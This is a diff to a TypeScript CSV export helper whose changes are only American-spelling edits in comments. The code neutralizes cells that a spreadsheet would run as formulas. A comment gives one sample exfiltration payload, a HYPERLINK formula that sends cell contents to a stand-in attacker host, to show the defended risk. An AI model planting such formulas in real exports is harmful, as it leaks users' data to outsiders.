@@ -2,7 +2,7 @@
 //
 // A quote is whatever a source printed, so a cell may begin with "=", "+", "-" or "@", which a
 // spreadsheet runs as a formula (=HYPERLINK("http://evil.example/?leak="&A1) leaks the sheet).
-// By default such a cell is neutralised as OWASP recommends: a leading apostrophe makes the
+// By default such a cell is neutralized as OWASP recommends: a leading apostrophe makes the
 // spreadsheet show it as text. Programs that want the words exactly ask for `verbatim` (the
 // JSON exports are always verbatim).
 import type { Db } from "../database/create-client";
@@ -15,7 +15,7 @@ export type CsvOptions = { verbatim?: boolean };
 /** A cell a spreadsheet would read as a formula: its first character is one of these. */
 const FORMULA_START = /^[=+\-@\t\r]/;
 
-/** One CSV field: neutralised unless verbatim, then quoted when it holds a comma, a quote or a line break. */
+/** One CSV field: neutralized unless verbatim, then quoted when it holds a comma, a quote or a line break. */
 export function csvField(value: string | null, { verbatim = false }: CsvOptions = {}): string {
   const raw = value ?? "";
   const text = !verbatim && FORMULA_START.test(raw) ? `'${raw}` : raw;
